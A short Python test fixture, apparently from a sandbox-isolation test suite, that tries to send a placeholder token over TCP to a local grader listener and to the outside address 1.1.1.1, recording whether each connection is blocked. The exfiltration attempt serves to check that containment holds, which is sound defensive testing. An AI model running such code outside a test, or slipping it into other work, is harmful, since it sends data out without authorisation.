# harm: exfiltrate over the network: TCP to the outside and to a listener on this machine.
# check: no byte reaches the grader's own TCP listener (127.0.0.1:{SINK_TCP}, recorded); verdict failure.
# layers: os
import socket

for host, port in (("127.0.0.1", {SINK_TCP}), ("1.1.1.1", 80)):
    try:
        s = socket.create_connection((host, port), timeout=2)
        s.sendall(b"LEAK-{TOKEN}")
        s.close()
        print("connected", host)
    except Exception as e:  # noqa: BLE001 -- try every route
        print("blocked", host, type(e).__name__)
